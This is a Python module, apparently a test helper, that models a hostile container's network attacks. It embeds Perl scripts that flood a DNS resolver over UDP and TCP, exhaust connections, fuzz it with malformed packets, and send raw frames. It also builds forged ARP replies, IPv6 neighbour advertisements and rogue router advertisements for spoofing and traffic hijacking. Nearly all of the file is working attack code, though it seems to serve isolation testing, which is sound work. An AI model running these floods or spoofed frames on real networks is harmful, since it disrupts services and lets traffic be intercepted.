"""What a container that means harm does: programs in perl, which need nothing else inside, and frames.

Programs that go on until they are killed say "begun" when they begin.
"""

from __future__ import annotations

import socket
import struct

BROADCAST = "ff:ff:ff:ff:ff:ff"
SEND = r"""
$| = 1; socket(S, 17, 3, 0x0300) || die "socket: $!";
($i, $n, @f) = @ARGV; print "begun\n";
for (1..$n) {
    send(S, pack("H*", $_), 0, pack("SnlSCCa8", 17, 3, $i, 0, 0, 6, "")) for @f;
    select(undef, undef, undef, 0.02);
}
"""
"""Frames in hex, over and over: INTERFACE-INDEX TIMES FRAME... (packet(7))"""

_DNS = r"""
$| = 1; $to = pack("SnC4x8", 2, 53, 127, 0, 0, 11);
sub query { pack("n6", rand 65536, 0x100, 1, 0, 0, 0)
            . join("", map {chr(length).$_} split(/[.]/, shift)) . "\0" . pack("n2", 1, 1) }
"""
UDP_FLOOD = (
    _DNS
    + r"""
socket(S, 2, 2, 17); print "begun\n";
while (1) { send(S, query(eval $ARGV[0]), 0, $to) }
"""
)
"""Queries for EXPRESSION as fast as it goes."""
TCP_FLOOD = (
    _DNS
    + r"""
$SIG{PIPE} = "IGNORE"; print "begun\n";
while (1) {
    socket(S, 2, 1, 6); connect(S, $to);
    for (1..50) { $q = query(eval $ARGV[0]); syswrite(S, pack("n", length $q) . $q) }
    close S;
}
"""
)
CONNECTIONS = (
    _DNS
    + r"""
for (1..$ARGV[0]) { socket(my $s, 2, 1, 6); connect($s, $to) && push @s, $s }
print "begun\n", scalar(@s), "\n"; sleep 60;
"""
)
"""NUMBER connections that say nothing."""
MALFORMED = (
    _DNS
    + r"""
$SIG{PIPE} = "IGNORE"; srand 7;
$head = pack("n6", 1, 0x100, 1, 0, 0, 0); $tail = pack("n2", 1, 1); $label = "\x3f" . "a" x 63;
@bad = ("", "\0", $head, $head . "\0", $head . "\3web\0",
        $head . "\xc0\x0c" . $tail, $head . "\xc0\x0e\xc0\x0c" . $tail, $head . "\xff" x 400,
        $head . "\x40" . "a" x 64 . "\0" . $tail, $head . $label . $tail,
        $head . $label x 5 . "\0" . $tail, $head . $label x 60 . "\0" . $tail,
        $head . "\3a\0b\0" . $tail, $head . "\1\n\0" . $tail,
        pack("n6", 1, 0x100, 65535, 65535, 65535, 65535) . "\3web\0" . $tail,
        pack("n6", 1, 0x8180, 1, 0, 0, 0) . "\3web\0" . $tail);
push @bad, join("", map {chr rand 256} 1..rand 600) for 1..300;
socket(U, 2, 2, 17); send(U, $_, 0, $to) for @bad;
for (@bad[0..60]) {
    for my $length (length $_, 65535, 0, 1) {
        socket(T, 2, 1, 6); connect(T, $to); syswrite(T, pack("n", $length) . $_); close T;
    }
}
print "done";
"""
)
ECHO_AT_53 = r"""
$| = 1; socket(S, 2, 2, 17); bind(S, pack("SnC4x8", 2, 53, 0, 0, 0, 0)) || die "bind: $!";
while (defined($p = recv(S, $d, 999, 0))) { print "$d\n"; send(S, $d, 0, $p) }
"""


def mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def ether(source: str, kind: int, data: bytes, target: str = BROADCAST) -> bytes:
    return mac(target) + mac(source) + struct.pack("!H", kind) + data


def arp(source: str, owner_mac: str, owner: str, asked: str) -> bytes:
    """Says that `owner_mac` has the address `owner`."""
    head = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    return ether(
        source, 0x0806, head + mac(owner_mac) + socket.inet_aton(owner) + bytes(6) + socket.inet_aton(asked)
    )


def udp4(source_mac: str, target_mac: str, source: str, target: str, port: int, data: bytes) -> bytes:
    datagram = struct.pack("!4H", 40000, port, 8 + len(data), 0) + data
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return ether(source_mac, 0x0800, head + datagram, target_mac)


def icmp6(source_mac: str, source: str, target: str, body: bytes) -> bytes:
    """`body` with a checksum of zero; to all nodes of the link."""
    addresses = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target)
    pseudo = addresses + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255)
    return ether(source_mac, 0x86DD, head + addresses + body, "33:33:00:00:00:01")


def advertise_neighbour(source_mac: str, source: str, claimed: str, claimed_mac: str) -> bytes:
    body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + socket.inet_pton(socket.AF_INET6, claimed)
    return icmp6(source_mac, source, "ff02::1", body + bytes([2, 1]) + mac(claimed_mac))


def advertise_router(source_mac: str, source: str, prefix: str) -> bytes:
    """A default router for half an hour, and a /64 to take addresses from."""
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + bytes([1, 1]) + mac(source_mac)
    body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 1800, 1800, 0) + socket.inet_pton(socket.AF_INET6, prefix)
    return icmp6(source_mac, source, "ff02::1", body)


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
